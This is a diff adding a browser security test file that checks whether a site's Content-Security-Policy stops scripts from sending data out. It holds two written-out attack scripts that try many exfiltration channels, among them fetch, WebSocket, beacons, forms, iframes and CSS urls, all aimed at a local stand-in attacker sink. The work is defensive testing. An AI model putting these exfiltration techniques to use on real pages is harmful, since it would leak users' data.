@@ -1,0 +1,226 @@
+/**
+ * Nothing leaves the page. The built page is served as a static host would, without a header, and as our own servers
+ * do; a sink waits for whatever gets out: every other name resolves to it, its own address is known to the attacks.
+ */
+import { readdirSync, readFileSync, statSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, inject, test } from 'vitest';
+import { findChromium, seesGpu } from '../../src/cli/node/chromium.mjs';
+import { securityHeaders } from '../../src/cli/node/policy.mjs';
+
+const folder = path.resolve(import.meta.dirname, '../../out/site');
+/** The built page, in memory. */
+const site = new Map<string, Buffer>();
+const types: Record<string, string> = { html: 'text/html', js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml', json: 'application/json' };
+
+/** Files of the site's folder, and some made for a test. */
+type Extra = Record<string, string>;
+
+function serve(headers: Record<string, string>, extra: Extra = {}, change = (html: string) => html): Promise<Server> {
+  const server = createServer((request, response) => {
+    const name = decodeURIComponent(new URL(request.url ?? '/', 'http://site').pathname.slice(1)) || 'index.html';
+    const type = types[name.split('.').pop()!] ?? 'application/octet-stream';
+    const body = extra[name] ?? site.get(name);
+    if (body === undefined) return void response.writeHead(404).end();
+    response.writeHead(200, { ...headers, 'Content-Type': type });
+    response.end(name === 'index.html' ? change(String(body)) : body);
+  });
+  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
+}
+
+const addressOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+
+let browser: Browser;
+let sink: Server;
+const arrived: string[] = [];
+const servers: Server[] = [];
+
+beforeAll(async () => {
+  const built = inject('site');
+  if ('failure' in built) throw new Error(built.failure);
+  for (const name of readdirSync(folder, { recursive: true, encoding: 'utf8' })) {
+    const file = path.join(folder, name);
+    if (statSync(file).isFile()) site.set(name.replaceAll(path.sep, '/'), readFileSync(file));
+  }
+  sink = await serve({});
+  sink.removeAllListeners('request');
+  sink.on('request', (request, response) => {
+    const { host = '' } = request.headers;
+    // The browser looks for updates of its own, page or no page.
+    if (!/\.(googleapis|google|gvt1)\.com$/.test(host)) arrived.push(`${request.method} ${host}${request.url}`);
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('');
+  });
+  sink.on('upgrade', (request, socket) => {
+    arrived.push(`upgrade ${request.url}`);
+    socket.destroy();
+  });
+  browser = await chromium.launch({
+    executablePath: findChromium(),
+    args: [
+      '--enable-unsafe-webgpu',
+      '--enable-features=Vulkan',
+      ...(seesGpu() ? [] : ['--use-webgpu-adapter=swiftshader']),
+      '--disable-component-update',
+      // Any name but this machine's own leads to the sink.
+      `--host-resolver-rules=MAP * 127.0.0.1:${(sink.address() as AddressInfo).port}, EXCLUDE 127.0.0.1, EXCLUDE localhost`,
+    ],
+  });
+});
+afterAll(async () => {
+  await browser?.close();
+  for (const server of [sink, ...servers]) server?.close();
+});
+
+async function withSite(server: Server, use: (page: Page) => Promise<void>, hash = ''): Promise<void> {
+  servers.push(server);
+  const context = await browser.newContext({ acceptDownloads: true });
+  try {
+    const page = await context.newPage();
+    await page.goto(addressOf(server) + hash);
+    await use(page);
+  } finally {
+    await context.close();
+    server.close();
+  }
+}
+
+const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
+
+/** Every way out that a script in a worker has; answers with the names of those that seemed to work. */
+const workerAttack = (to: string) => `
+const to = ${JSON.stringify(to)};
+const tries = {
+  fetch: () => fetch(to + '/fetch', { mode: 'no-cors' }),
+  xhr: () => new Promise((done, failed) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = failed; r.open('GET', to + '/xhr'); r.send(); }),
+  socket: () => new Promise((done, failed) => { const s = new WebSocket(to.replace('http', 'ws') + '/socket'); s.onopen = done; s.onerror = failed; }),
+  events: () => new Promise((done, failed) => { const s = new EventSource(to + '/events'); s.onopen = done; s.onerror = failed; }),
+  import: () => import(to + '/import.js'),
+  eval: async () => (0, eval)('1'),
+  worker: () => new Promise((done, failed) => {
+    const blob = URL.createObjectURL(new Blob(["fetch('" + to + "/nested', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))"]));
+    const worker = new Worker(blob); worker.onmessage = (e) => e.data ? done() : failed(); worker.onerror = failed; }),
+};
+const worked = [];
+for (const [name, one] of Object.entries(tries)) {
+  await Promise.race([one(), new Promise((_, late) => setTimeout(late, 2000))]).then(() => worked.push(name), () => {});
+}
+postMessage(worked);
+`;
+
+/** The same for a script in the page, which had to get there first. */
+async function pageAttack(to: string): Promise<void> {
+  const send = (name: string) => `${to}/page-${name}`;
+  const add = (tag: string, fields: object) => document.body.append(Object.assign(document.createElement(tag), fields));
+  const safely = (act: () => unknown) => {
+    try {
+      void Promise.resolve(act()).catch(() => {});
+    } catch {
+      // Refused at once.
+    }
+  };
+  safely(() => fetch(send('fetch'), { mode: 'no-cors' }));
+  safely(() => navigator.sendBeacon(send('beacon'), 'x'));
+  safely(() => new WebSocket(send('socket').replace('http', 'ws')));
+  safely(() => new EventSource(send('events')));
+  safely(() => add('img', { src: send('img') }));
+  safely(() => add('script', { src: send('script') }));
+  safely(() => add('iframe', { src: send('iframe') }));
+  safely(() => add('object', { data: send('object') }));
+  safely(() => add('link', { rel: 'stylesheet', href: send('style') }));
+  safely(() => add('link', { rel: 'prefetch', href: send('prefetch') }));
+  safely(() => add('video', { src: send('video') }));
+  safely(() => add('style', { textContent: `html { background: url(${send('css')}) }` }));
+  safely(() => (document.body.style.backgroundImage = `url(${send('background')})`));
+  safely(() => add('div', { innerHTML: `<img src="${send('html')}">` }));
+  safely(() => {
+    const frame = document.createElement('iframe');
+    frame.name = 'out';
+    const form = Object.assign(document.createElement('form'), { action: send('form'), method: 'post', target: 'out' });
+    document.body.append(frame, form);
+    form.submit();
+  });
+  await new Promise((resolve) => setTimeout(resolve, 1500));
+}
+
+/** Starts the attack as the page starts its own worker; the answer is what seemed to work. */
+const startWorker = (page: Page) =>
+  page.evaluate(
+    () =>
+      new Promise<string[]>((resolve, reject) => {
+        const worker = new Worker(new URL('attack.js', location.href), { type: 'module' });
+        worker.onmessage = ({ data }) => resolve(data);
+        worker.onerror = (event) => reject(new Error(event.message));
+      }),
+  );
+
+const stripped = (html: string) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
+
+test('page and worker: without a policy the attacks get out, with it in the page alone or in headers none does', async () => {
+  const to = addressOf(sink);
+  const attack = { 'attack.js': workerAttack(to) };
+  await withSite(await serve({}, attack, stripped), async (page) => {
+    expect(await startWorker(page)).toEqual(['fetch', 'xhr', 'import', 'eval', 'worker']);
+    await page.evaluate(pageAttack, to);
+  });
+  const got = arrived.splice(0).map((line) => /\/([\w-]+)(\.js)?$/.exec(line)![1]);
+  expect(new Set(got)).toEqual(
+    new Set([
+      'fetch', 'xhr', 'socket', 'events', 'import', 'nested', 'page-fetch', 'page-beacon', 'page-socket', 'page-events', 'page-img',
+      'page-script', 'page-iframe', 'page-object', 'page-style', 'page-prefetch', 'page-video', 'page-css', 'page-background',
+      'page-html', 'page-form',
+    ]), // prettier-ignore
+  );
+  for (const headers of [{}, securityHeaders]) {
+    await withSite(await serve(headers, attack), async (page) => {
+      expect(await startWorker(page)).toEqual([]);
+      await page.evaluate(pageAttack, to);
+    });
+  }
+  expect(arrived).toEqual([]);
+});
+
+test('our own servers send the policy with every file, the worker’s script too', async () => {
+  const built = inject('site') as { url: string };
+  const page = await (await fetch(built.url)).text();
+  const script = /assets\/index-[\w-]+\.js/.exec(page)![0];
+  const worker = /trainer\.worker-[\w-]+\.js/.exec(await (await fetch(built.url + script)).text())![0];
+  for (const file of ['', script, `assets/${worker}`, 'icon.svg', 'bases/index.json']) {
+    const { status, headers } = await fetch(built.url + file);
+    expect(status, file).toBe(200);
+    for (const [name, value] of Object.entries(securityHeaders)) expect(headers.get(name), file).toBe(value);
+  }
+  expect(page).toContain('http-equiv="Content-Security-Policy"');
+});
+
+test('a whole run asks its own server alone, and nothing that was not asked for', async () => {
+  const asked: string[] = [];
+  const problems: string[] = [];
+  const server = await serve({});
+  servers.push(server);
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  context.on('request', (request) => void asked.push(request.url()));
+  page.on('console', (message) => message.type() === 'error' && problems.push(message.text()));
+  page.on('pageerror', (error) => problems.push(String(error)));
+  await page.goto(`${addressOf(server)}#v=1&p=smoke&base.steps=6&continued.steps=6&base.schedule.warmupSteps=2`);
+  await page.getByText('Runs on').waitFor({ timeout: 60_000 });
+  await page.waitForLoadState('networkidle');
+  const loaded = asked.length;
+  await page.waitForTimeout(1500);
+  expect(asked.slice(loaded)).toEqual([]);
+  await button(page, 'Start').click();
+  await button(page, 'Start again').waitFor({ timeout: 120_000 });
+  await page.getByLabel('Prompt').fill('Call me');
+  await button(page, 'Write').click();
+  const download = page.waitForEvent('download');
+  await button(page, 'Download the model').click();
+  await download;
+  const own = addressOf(server);
+  expect(asked.filter((url) => !url.startsWith(`${own}/`) && !url.startsWith(`blob:${own}/`))).toEqual([]);
+  expect(problems).toEqual([]);
+  expect(arrived).toEqual([]);
+  await context.close();
+});
